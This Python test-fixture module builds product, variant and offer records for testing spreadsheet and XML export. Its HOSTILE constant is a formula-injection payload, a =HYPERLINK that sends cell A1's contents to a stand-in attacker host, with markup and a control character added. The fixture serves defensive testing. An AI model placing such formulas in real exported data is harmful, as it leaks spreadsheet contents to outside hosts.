"""Products as the API returns them, with values that are hostile to spreadsheets and XML."""

import json
from typing import Any

HOSTILE = '=HYPERLINK("https://evil.example?x="&A1,"Sofa") <b>&amp;</b>\u0001'


def build_offer(**values: Any) -> dict[str, Any]:
    return {
        "object": "offer", "id": "ofr_1", "source": "src_1", "location": "NJ", "currency": "eur", "price": 64900, "cost": 27900,
        "quantity": 12, "availability": "in_stock", "observed_at": "2026-11-20T13:08:00.000Z", "version": 1,
    } | values  # fmt: skip


def build_variant(number: int = 1, offers: list[dict[str, Any]] | None = None, **data: Any) -> dict[str, Any]:
    given = {"value": 80, "unit": "cm"}
    standard = {
        "sku": f"HD-{number}", "gtin": "4006381333931", "mpn": f"M{number}", "title": f"Grey {number}", "axes": {"Colour": f"Grey {number}"}, "colour": "Grey",
        "materials": ["Wool", "Oak, solid"], "dimensions": {"width": {"hundredths_in": 3150, "given": given}},
        "weight": {"hundredths_lb": 6600, "given": {"value": 66, "unit": "lb"}}, "assembly_required": True,
    }  # fmt: skip
    return {
        "object": "variant", "id": f"var_{number}", "external_id": f"V{number}", "status": "active", "version": 1,
        "data": {name: value for name, value in (standard | data).items() if value is not None},
        "offers": [build_offer()] if offers is None else offers, "updated_at": "2026-11-20T13:08:00.000Z",
    }  # fmt: skip


def build_product(variants: list[dict[str, Any]] | None = None, id: str = "prod_1aB", **data: Any) -> dict[str, Any]:
    standard = {
        "title": "Hedda sofa", "brand": "Lindgren & Möbler", "description": "A low sofa.\n\nWith <loose> cushions.", "features": ["Removable covers"],
        "tags": ["new", "a,b"], "category_path": ["Living", "Sofas"],
        "media": [{"url": "https://v.example/2.jpg"}, {"url": "https://v.example/1.jpg?a=1&b=2", "role": "hero", "alt": 'The "sofa"'}, {"url": "https://v.example/v.mp4", "role": "video"}],
    }  # fmt: skip
    return {
        "object": "product", "id": id, "external_id": "LM-1", "catalogue": "cat_1", "status": "active", "version": 1,
        "data": {name: value for name, value in (standard | data).items() if value is not None},
        "variants": [build_variant()] if variants is None else variants, "visibility": "unlisted",
        "created_at": "2026-11-19T10:00:00.000Z", "updated_at": "2026-11-20T13:08:00.000Z",
    }  # fmt: skip


def encode(*products: dict[str, Any]) -> list[bytes]:
    return [json.dumps(product).encode() for product in products]
